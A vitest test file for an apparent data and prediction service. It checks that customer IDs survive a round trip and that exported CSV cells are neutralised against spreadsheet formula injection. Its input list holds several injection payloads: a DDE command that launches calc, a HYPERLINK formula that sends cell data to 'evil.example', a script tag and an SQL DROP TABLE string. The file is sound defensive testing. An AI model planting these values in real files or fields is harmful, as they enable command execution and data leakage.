/** Customers whose names a program could take for something else come out of a prediction as they went in, and start nothing. */
import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { RowPage } from '@clove/contracts';
import { afterAll, expect, test } from 'vitest';
import { bearer, client, stackUrl } from './support.js';

const folder = mkdtempSync(path.join(tmpdir(), 'clove-exports-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const NAMES = [
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  'says "hello"',
  '"quoted"',
  "it's",
  'two\nlines',
  'two\r\nlines',
  'a,b',
  'a;b',
  'a\tb',
  '\\',
  '<script>alert(1)</script>',
  "'; DROP TABLE x; --",
  '👩‍👩‍👧‍👦',
  '\u202eevil',
];
const quoted = (name: string): string => `"${name.replaceAll('"', '""')}"`;
const csv = [
  'customer_id,spend,visits,clv',
  ...Array.from(
    { length: 100 },
    (_, n) => `${n < NAMES.length ? quoted(NAMES[n]!) : `c${n}`},${n % 37},${n % 11},${3 * (n % 37) + (n % 7)}`,
  ),
  '',
].join('\n');

test('ids with quotes, line ends and formulas', async () => {
  const made = await client.accepted(
    '/v1/datasets',
    client.upload({ 'names.csv': csv }, { options: '{"kind":"features"}' }),
  );
  expect((await client.settled(made.job.id)).status).toBe('succeeded');
  const training = {
    datasetId: made.id,
    model: 'feedforward',
    modelName: 'names',
    epochs: 1,
    hidden: [4],
    batchSize: 32,
  };
  const run = await client.accepted('/v1/runs', training);
  expect((await client.settled(run.job.id)).status).toBe('succeeded');
  const asked = { datasetId: made.id, model: 'names', includeInputs: true };
  const prediction = await client.accepted('/v1/predictions', asked);
  expect((await client.settled(prediction.job.id)).status).toBe('succeeded');

  const page = await client.get<RowPage>(`/v1/predictions/${prediction.id}/rows?limit=1000`);
  const ids = page.rows.map((row) => String(row[0]));
  expect(NAMES.filter((name) => !ids.includes(name))).toEqual([]);

  const answer = await fetch(`${stackUrl}/v1/predictions/${prediction.id}/download`, { headers: bearer });
  const file = path.join(folder, 'predictions.csv');
  writeFileSync(file, await answer.text());
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  const read = await connection.runAndReadAll(
    `SELECT customer_id FROM read_csv('${file}', header = true, all_varchar = true, delim = ',', quote = '"', escape = '"')`,
  );
  const cells = read.getRows().map(([cell]) => String(cell));
  connection.closeSync();
  instance.closeSync();
  expect(cells).toHaveLength(100);
  // no cell starts what a spreadsheet would carry out, and all else is as it was
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells.map((cell) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)).toSorted()).toEqual(ids.toSorted());
});
